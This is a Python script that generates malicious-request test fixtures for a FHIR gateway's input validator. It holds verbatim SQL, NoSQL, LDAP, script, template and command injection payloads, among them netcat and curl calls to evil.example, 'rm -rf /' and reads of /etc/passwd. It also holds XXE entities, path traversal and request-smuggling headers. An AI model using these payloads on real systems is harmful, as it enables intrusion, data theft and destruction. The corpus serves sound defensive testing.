# ruff: noqa: E501 (attack payloads are kept verbatim on one line each)
"""Write the malicious request corpus, ``tests/fixtures/malicious/<class>.json``.

Each file is ``{"class": ..., "requests": [{"name", "method", "path", "query",
"headers": [[name, value]], "body" | "body_b64"}]}``; every request must be refused
by ``phigate.guard.validation.inspect_request`` (tests/integration/test_validation_corpus.py).
Re-run after adding a case: ``.venv/bin/python tools/gen_malicious_corpus.py``.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any
from urllib.parse import quote

OUT = Path(__file__).resolve().parents[1] / "tests" / "fixtures" / "malicious"
JSON_CT = [["Content-Type", "application/fhir+json"]]
XML_CT = [["Content-Type", "application/fhir+xml"]]


def req(
    name: str,
    method: str = "GET",
    path: str = "/fhir/Patient",
    query: str = "",
    headers: list[list[str]] | None = None,
    body: str | bytes = "",
) -> dict[str, Any]:
    item: dict[str, Any] = {
        "name": name,
        "method": method,
        "path": path,
        "query": query,
        "headers": headers if headers is not None else [],
    }
    if isinstance(body, bytes):
        item["body_b64"] = base64.b64encode(body).decode()
    else:
        item["body"] = body
    return item


def patient(**fields: Any) -> str:
    return json.dumps({"resourceType": "Patient", **fields})


def in_values(
    cls: str, payloads: list[str], params: tuple[str, ...] = ("name", "family")
) -> list[dict[str, Any]]:
    """Each payload as a search value, and as a string in a created Patient."""
    cases = []
    for index, payload in enumerate(payloads):
        param = params[index % len(params)]
        cases.append(req(f"{cls}-query-{index}", query=f"{param}={quote(payload, safe='')}"))
        body = patient(name=[{"family": payload}])
        cases.append(req(f"{cls}-body-{index}", "POST", "/fhir/Patient", headers=JSON_CT, body=body))
    return cases


SQL = [
    "' OR 1=1--",
    "x' OR 'a'='a",
    "1 UNION SELECT password FROM users",
    "x'; DROP TABLE patient;--",
    "1; DELETE FROM observation",
    "x' AND SLEEP(5)--",
    "1' WAITFOR DELAY '0:0:5'--",
    "' UNION/**/SELECT NULL,NULL--",
    "x' or ''='",
    "1 AND 1=1 UNION ALL SELECT table_name FROM information_schema.tables",
    "admin'--",
    "'; EXEC xp_cmdshell('dir');--",
    "1' AND pg_sleep(10)--",
    "x' OR 1=1#",
    "SELECT * FROM sqlite_master",
    'x" or "1"="1',
]
NOSQL_VALUES = [
    '{"$ne": null}',
    '{"$gt": ""}',
    '{"$where": "sleep(1000)"}',
    "this.password == 'x'",
    "[$ne]=1",
    '{"$regex": ".*"}',
    "db.users.find({})",
    '{"$or": [{}]}',
]
SCRIPT = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(document.cookie)",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example>",
    "<body onload=alert(1)>",
    '<a href="vbscript:msgbox(1)">x</a>',
    "data:text/html;base64,PHNjcmlwdD4=",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<object data=x.swf>",
    '<div style="width: expression(alert(1))">',
    "<embed src=x>",
]
COMMAND = [
    "; cat /etc/passwd",
    "| nc evil.example 4444",
    "&& whoami",
    "`id`",
    "$(curl http://evil.example)",
    "; rm -rf /",
    "|| ping -c 10 127.0.0.1",
    "x; bash -i",
    "/bin/sh -c id",
    "cmd.exe /c dir",
    "a${IFS}b",
    "; powershell -enc AAAA",
]
LDAP = [
    "*)(uid=*))(|(uid=*",
    "admin)(&(password=*)",
    "*)(|(objectclass=*)",
    "(|(cn=*))",
    "x)(cn=*",
    "*)(&(objectClass=user)",
]
TEMPLATE = [
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "{% import os %}",
    "#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "{{config.items()}}",
    "${env:AWS_SECRET}",
    "{{''.__class__.__mro__}}",
    "<% system('id') %>",
]
TRAVERSAL = [
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fetc%2fpasswd",
    "....//....//etc/passwd/..",
    "/etc/shadow",
    "file:///etc/hosts",
    "C:\\Windows\\system32",
    "..%2f..%2fboot.ini",
    "/proc/self/environ",
    "%252e%252e%252f",
    "x%00.json",
    "..%c0%afetc",
]


def injection() -> dict[str, list[dict[str, Any]]]:
    nosql_keys = [
        req(
            f"nosql-key-{op}",
            "POST",
            "/fhir/Patient",
            headers=JSON_CT,
            body=json.dumps({"resourceType": "Patient", "name": [{"family": {op: ""}}]}),
        )
        for op in ("$ne", "$gt", "$where", "$regex", "$in", "$exists")
    ]
    return {
        "sql-injection": in_values("sql", SQL, ("name", "family", "given", "address")),
        "nosql-injection": in_values("nosql", NOSQL_VALUES) + nosql_keys,
        "script-injection": in_values("script", SCRIPT) + narrative_attacks(),
        "command-injection": in_values("command", COMMAND),
        "ldap-injection": in_values("ldap", LDAP),
        "template-injection": in_values("template", TEMPLATE),
        "path-traversal-values": in_values("traversal", TRAVERSAL, ("address", "name")),
    }


def narrative_attacks() -> list[dict[str, Any]]:
    divs = [
        '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><p onclick="steal()">x</p></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><a href="javascript:alert(1)">x</a></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><a href="&#106;avascript:alert(1)">x</a></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></div>',
        '<div xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example"><input/></form></div>',
        "<div xmlns=\"http://www.w3.org/1999/xhtml\">{{constructor.constructor('alert(1)')()}}</div>",
    ]
    return [
        req(
            f"narrative-{i}",
            "POST",
            "/fhir/Patient",
            headers=JSON_CT,
            body=patient(text={"status": "generated", "div": div}),
        )
        for i, div in enumerate(divs)
    ]


def json_attacks() -> list[dict[str, Any]]:
    bodies: list[tuple[str, str | bytes]] = [
        ("duplicate-key", '{"resourceType":"Patient","id":"a","id":"b"}'),
        ("duplicate-resource-type", '{"resourceType":"Patient","resourceType":"Observation"}'),
        ("nested-duplicate", '{"resourceType":"Patient","name":[{"family":"a","family":"b"}]}'),
        ("deep-arrays", "[" * 5000 + "]" * 5000),
        ("deep-objects", '{"a":' * 3000 + "1" + "}" * 3000),
        ("deep-unbalanced", "[" * 100000),
        (
            "nan",
            '{"resourceType":"Observation","status":"final","code":{"text":"x"},"valueQuantity":{"value":NaN}}',
        ),
        (
            "infinity",
            '{"resourceType":"Observation","status":"final","code":{"text":"x"},"valueQuantity":{"value":Infinity}}',
        ),
        ("neg-infinity", '{"resourceType":"Patient","x":-Infinity}'),
        ("huge-int", '{"resourceType":"Patient","multipleBirthInteger":123456789012345678901234567890}'),
        ("int-2-63", '{"resourceType":"Patient","multipleBirthInteger":9223372036854775808}'),
        (
            "float-overflow",
            '{"resourceType":"Observation","status":"final","code":{"text":"x"},"valueQuantity":{"value":1e400}}',
        ),
        ("many-digits", '{"resourceType":"Patient","multipleBirthInteger":' + "9" * 5000 + "}"),
        ("lone-high-surrogate", '{"resourceType":"Patient","name":[{"family":"\\ud800"}]}'),
        ("lone-low-surrogate", '{"resourceType":"Patient","name":[{"family":"\\udc00x"}]}'),
        ("reversed-surrogates", '{"resourceType":"Patient","name":[{"family":"\\udc00\\ud800"}]}'),
        ("surrogate-key", '{"resourceType":"Patient","\\ud800":1}'),
        ("invalid-utf8", b'{"resourceType":"Patient","name":[{"family":"\xff\xfe"}]}'),
        ("overlong-utf8", b'{"resourceType":"Patient","name":[{"family":"\xc0\xaf"}]}'),
        ("encoded-surrogate-utf8", b'{"resourceType":"Patient","name":[{"family":"\xed\xa0\x80"}]}'),
        ("truncated-utf8", b'{"resourceType":"Patient","name":[{"family":"\xe2\x82"}]}'),
        ("bom", b'\xef\xbb\xbf{"resourceType":"Patient"}'),
        ("trailing-garbage", '{"resourceType":"Patient"} {"resourceType":"Patient"}'),
        ("single-quotes", "{'resourceType':'Patient'}"),
        ("comment", '{"resourceType":"Patient" /* x */}'),
        ("unterminated-string", '{"resourceType":"Patient","name":"' + '\\"' * 10000),
        ("empty-body", ""),
    ]
    cases = [
        req(f"json-{name}", "POST", "/fhir/Patient", headers=JSON_CT, body=body) for name, body in bodies
    ]
    # Stored small: the test expands "{pad}" to ``pad`` characters (2 MiB here, over the 1 MiB limit).
    large = req(
        "json-too-large",
        "POST",
        "/fhir/Patient",
        headers=JSON_CT,
        body='{"resourceType":"Patient","name":[{"family":"{pad}"}]}',
    )
    large["pad"] = 2 * 1024 * 1024
    return [*cases, large]


XXE = [
    (
        "doctype-entity",
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x "y">]><Patient xmlns="http://hl7.org/fhir"><id value="&x;"/></Patient>',
    ),
    (
        "external-entity",
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><Patient xmlns="http://hl7.org/fhir"><id value="&x;"/></Patient>',
    ),
    (
        "billion-laughs",
        '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Patient xmlns="http://hl7.org/fhir"><id value="&c;"/></Patient>',
    ),
    (
        "external-dtd",
        '<?xml version="1.0"?><!DOCTYPE Patient SYSTEM "http://evil.example/x.dtd"><Patient xmlns="http://hl7.org/fhir"/>',
    ),
    (
        "parameter-entity",
        '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><Patient xmlns="http://hl7.org/fhir"/>',
    ),
    (
        "xinclude",
        '<Patient xmlns="http://hl7.org/fhir" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></Patient>',
    ),
    ("wrong-namespace", '<Patient xmlns="http://evil.example/fhir"><id value="1"/></Patient>'),
    ("no-namespace", '<Patient><id value="1"/></Patient>'),
    ("unknown-root", '<Hacker xmlns="http://hl7.org/fhir"/>'),
    ("type-mismatch", '<Observation xmlns="http://hl7.org/fhir"/>'),
    ("latin1-declared", '<?xml version="1.0" encoding="ISO-8859-1"?><Patient xmlns="http://hl7.org/fhir"/>'),
    ("utf16-declared", '<?xml version="1.0" encoding="UTF-16"?><Patient xmlns="http://hl7.org/fhir"/>'),
    ("not-well-formed", '<Patient xmlns="http://hl7.org/fhir"><id value="1"></Patient>'),
    (
        "deep",
        '<Patient xmlns="http://hl7.org/fhir">' + "<extension>" * 500 + "</extension>" * 500 + "</Patient>",
    ),
    ("dtd-only", '<!DOCTYPE Patient><Patient xmlns="http://hl7.org/fhir"/>'),
]


def xml_attacks() -> list[dict[str, Any]]:
    return [req(f"xml-{name}", "POST", "/fhir/Patient", headers=XML_CT, body=body) for name, body in XXE]


def fhir_structure() -> list[dict[str, Any]]:
    obs = {"resourceType": "Observation", "status": "final", "code": {"text": "x"}}
    cases: list[tuple[str, str, str, Any]] = [
        ("wrong-type", "POST", "/fhir/Patient", obs),
        ("unknown-type", "POST", "/fhir/Patient", {"resourceType": "Hacker"}),
        ("no-resource-type", "POST", "/fhir/Patient", {"name": [{"family": "x"}]}),
        ("not-an-object", "POST", "/fhir/Patient", [1, 2]),
        ("unknown-element", "POST", "/fhir/Patient", {"resourceType": "Patient", "ssn": "1"}),
        (
            "missing-required",
            "POST",
            "/fhir/Observation",
            {"resourceType": "Observation", "code": {"text": "x"}},
        ),
        ("cardinality-list", "POST", "/fhir/Patient", {"resourceType": "Patient", "name": {"family": "x"}}),
        ("cardinality-single", "POST", "/fhir/Patient", {"resourceType": "Patient", "gender": ["male"]}),
        ("bad-date", "POST", "/fhir/Patient", {"resourceType": "Patient", "birthDate": "1970-13-45"}),
        ("bad-boolean", "POST", "/fhir/Patient", {"resourceType": "Patient", "active": "true"}),
        ("bad-id", "POST", "/fhir/Patient", {"resourceType": "Patient", "id": "../etc"}),
        ("long-id", "POST", "/fhir/Patient", {"resourceType": "Patient", "id": "a" * 65}),
        ("two-choices", "POST", "/fhir/Observation", {**obs, "valueString": "a", "valueBoolean": True}),
        (
            "bad-reference",
            "POST",
            "/fhir/Observation",
            {**obs, "subject": {"reference": "javascript:alert(1)"}},
        ),
        (
            "urn-outside-bundle",
            "POST",
            "/fhir/Observation",
            {**obs, "subject": {"reference": "urn:uuid:0c3151bd-1cbf-4d64-b04d-cd9187a4c6e0"}},
        ),
        (
            "reference-unknown-type",
            "POST",
            "/fhir/Observation",
            {**obs, "subject": {"reference": "Hacker/1"}},
        ),
        ("empty-string", "POST", "/fhir/Patient", {"resourceType": "Patient", "gender": ""}),
        ("empty-object", "POST", "/fhir/Patient", {"resourceType": "Patient", "name": [{}]}),
        ("empty-list", "POST", "/fhir/Patient", {"resourceType": "Patient", "name": []}),
        (
            "integer-range",
            "POST",
            "/fhir/Patient",
            {"resourceType": "Patient", "multipleBirthInteger": 2**40},
        ),
        ("update-id-mismatch", "PUT", "/fhir/Patient/1", {"resourceType": "Patient", "id": "2"}),
        ("update-no-id", "PUT", "/fhir/Patient/1", {"resourceType": "Patient"}),
        (
            "contained-invalid",
            "POST",
            "/fhir/Patient",
            {"resourceType": "Patient", "contained": [{"resourceType": "Patient", "bogus": 1}]},
        ),
        ("bundle-not-transaction", "POST", "/fhir", {"resourceType": "Bundle", "type": "collection"}),
        (
            "bundle-entry-invalid",
            "POST",
            "/fhir",
            {
                "resourceType": "Bundle",
                "type": "transaction",
                "entry": [
                    {
                        "resource": {"resourceType": "Patient"},
                        "request": {"method": "POST", "url": "Patient"},
                    },
                    {
                        "resource": {"resourceType": "Patient", "birthDate": "yesterday"},
                        "request": {"method": "POST", "url": "Patient"},
                    },
                ],
            },
        ),
        (
            "bundle-entry-no-request",
            "POST",
            "/fhir",
            {"resourceType": "Bundle", "type": "batch", "entry": [{"resource": {"resourceType": "Patient"}}]},
        ),
        ("patch-not-a-list", "PATCH", "/fhir/Patient/1", {"op": "replace"}),
        ("patch-id", "PATCH", "/fhir/Patient/1", [{"op": "replace", "path": "/id", "value": "2"}]),
        (
            "patch-resource-type",
            "PATCH",
            "/fhir/Patient/1",
            [{"op": "replace", "path": "/resourceType", "value": "Observation"}],
        ),
        ("patch-bad-op", "PATCH", "/fhir/Patient/1", [{"op": "eval", "path": "/name"}]),
        ("patch-bad-pointer", "PATCH", "/fhir/Patient/1", [{"op": "add", "path": "name/~2", "value": 1}]),
        (
            "primitive-ext-misaligned",
            "POST",
            "/fhir/Patient",
            {"resourceType": "Patient", "name": [{"given": ["a", "b"], "_given": [None]}]},
        ),
    ]
    out = []
    for name, method, path, body in cases:
        ct = [["Content-Type", "application/json-patch+json"]] if name.startswith("patch-") else JSON_CT
        out.append(req(f"fhir-{name}", method, path, headers=ct, body=json.dumps(body)))
    return out


def search_attacks() -> list[dict[str, Any]]:
    queries = [
        "ssn=123",
        "_count=100000",
        "birthdate=yesterday",
        "birthdate=ge2020-13-01",
        "name:nonsense=x",
        "gender:exact=male",
        "general-practitioner:Hacker=1",
        "_include=Patient:*",
        "_include=*",
        "_revinclude=Observation:subject",
        "_include:iterate=Patient:general-practitioner",
        "organization.nosuch=x",
        "_has:Observation:code:code=1",
        "_has:Observation:patient:nosuch=1",
        "name.family=x",
        "_id=",
        "_lastUpdated=2020-01-01T25:00",
        "birthdate:missing=maybe",
        "_count=10&_count=1000",
        "_sort=name;drop",
        "_format=text/html",
        "_summary=everything",
    ]
    cases = [req(f"search-{i}", query=q) for i, q in enumerate(queries)]
    cases.append(req("search-value-length", query="name=" + "a" * 2000))
    cases.append(req("search-observation-value", "GET", "/fhir/Observation", "value-quantity=abc"))
    cases.append(req("search-observation-number", "GET", "/fhir/RiskAssessment", "probability=gt1.2.3"))
    cases.append(
        req(
            "search-form-injection",
            "POST",
            "/fhir/Patient/_search",
            headers=[["Content-Type", "application/x-www-form-urlencoded"]],
            body="name=%27+OR+1%3D1--",
        )
    )
    cases.append(
        req("search-form-wrong-type", "POST", "/fhir/Patient/_search", headers=JSON_CT, body="name=x")
    )
    return cases


def path_attacks() -> list[dict[str, Any]]:
    paths = [
        "/fhir/Patient/%2e%2e/admin",
        "/fhir/Patient%2f1",
        "/fhir/Patient/1%5c..%5cadmin",
        "/fhir/../admin",
        "/fhir/./Patient",
        "/fhir/Patient/1%00",
        "/fhir/Patient/1%0d%0aX-Injected:%201",
        "/fhir/Patient/%c0%ae%c0%ae",
        "/fhir/Patient/%e0%80%ae",
        "/fhir/Patient/%252e%252e",
        "/fhir/patient/1",
        "/fhir/PATIENT",
        "/fhir/observation?code=1",
        "/fhir//Patient",
        "/fhir/Patient/1;jsessionid=x",
        "/fhir/Patient/..;/admin",
        "/fhir/Patient/1\\..\\admin",
        "/fhir/Patient/%ff",
        "/admin/keys",
        "fhir/Patient",
        "/fhir/Patient/1 HTTP/1.1",
        "/fhir/Patient/a" + "b" * 3000,
        "/fhir/Patient/%",
        "/fhir/Patient/%zz",
    ]
    return [req(f"path-{i}", path=p) for i, p in enumerate(paths)] + [
        req("path-raw-nonascii", path="/fhir/Patient/\u00e9"),
        req("path-raw-null", path="/fhir/Patient/1\u0000"),
        req("path-trace-method", "TRACE", "/fhir/Patient"),
        req("path-propfind-method", "PROPFIND", "/fhir/Patient"),
    ]


def header_attacks() -> list[dict[str, Any]]:
    sets = [
        ("cl-te", [["Content-Length", "10"], ["Transfer-Encoding", "chunked"]]),
        ("te-cl", [["Transfer-Encoding", "chunked"], ["Content-Length", "0"]]),
        ("te-obfuscated-list", [["Transfer-Encoding", "chunked, identity"]]),
        ("te-obfuscated-space", [["Transfer-Encoding", " chunked"]]),
        ("te-obfuscated-case", [["Transfer-Encoding", "Chunked"]]),
        ("te-xchunked", [["Transfer-Encoding", "xchunked"]]),
        ("te-twice", [["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "chunked"]]),
        ("cl-twice", [["Content-Length", "0"], ["Content-Length", "0"]]),
        ("cl-conflict", [["Content-Length", "0"], ["content-length", "44"]]),
        ("cl-negative", [["Content-Length", "-1"]]),
        ("cl-plus", [["Content-Length", "+5"]]),
        ("cl-hex", [["Content-Length", "0x10"]]),
        ("cl-list", [["Content-Length", "5, 5"]]),
        ("header-crlf", [["X-Note", "a\r\nX-Injected: 1"]]),
        ("header-null", [["X-Note", "a\u0000b"]]),
        ("header-name-space", [["Transfer-Encoding ", "chunked"]]),
        ("header-name-colon", [["X:Y", "1"]]),
        ("two-authorization", [["Authorization", "Bearer a"], ["Authorization", "Bearer b"]]),
        ("two-host", [["Host", "a.example"], ["Host", "b.example"]]),
        ("two-content-type", [["Content-Type", "application/fhir+json"], ["Content-Type", "text/plain"]]),
    ]
    return [req(f"header-{name}", headers=headers) for name, headers in sets]


def media_attacks() -> list[dict[str, Any]]:
    body = patient()
    types = [
        "text/plain",
        "application/xml; charset=utf-8",
        "text/html",
        "application/fhir+json; charset=iso-8859-1",
        "application/fhir+json; charset=utf-16",
        "application/fhir+json; charset=utf-8; charset=utf-8",
        "application/fhir+json; boundary=x",
        "application/fhir+json; fhirVersion=3.0",
        "application/fhir+json;;",
        "application/fhir+json; charset",
        "multipart/form-data; boundary=x",
        "application/x-www-form-urlencoded",
        "application/json-patch+json",
        "fhir+json",
        "application/fhir+yaml",
        "",
    ]
    cases = [
        req(f"media-ct-{i}", "POST", "/fhir/Patient", headers=[["Content-Type", t]], body=body)
        for i, t in enumerate(types)
    ]
    cases.append(req("media-no-content-type", "POST", "/fhir/Patient", body=body))
    cases.append(req("media-body-on-get", "GET", "/fhir/Patient/1", headers=JSON_CT, body=body))
    for i, accept in enumerate(
        ["text/html", "application/pdf, image/*", "application/fhir+json;q=0", "text/csv;q=1"]
    ):
        cases.append(req(f"media-accept-{i}", "GET", "/fhir/Patient/1", headers=[["Accept", accept]]))
    cases.append(req("media-format-html", "GET", "/fhir/Patient/1", "_format=html"))
    return cases


def main() -> None:
    groups = injection() | {
        "json-safety": json_attacks(),
        "xml-safety": xml_attacks(),
        "fhir-structure": fhir_structure(),
        "search-rules": search_attacks(),
        "path-hygiene": path_attacks(),
        "header-smuggling": header_attacks(),
        "media-type": media_attacks(),
    }
    total = 0
    for name, requests in groups.items():
        path = OUT / f"{name}.json"
        path.write_text(json.dumps({"class": name, "requests": requests}, indent=1) + "\n", encoding="utf-8")
        total += len(requests)
        print(f"{path.name}: {len(requests)}")
    print(f"total: {total}")


if __name__ == "__main__":
    main()
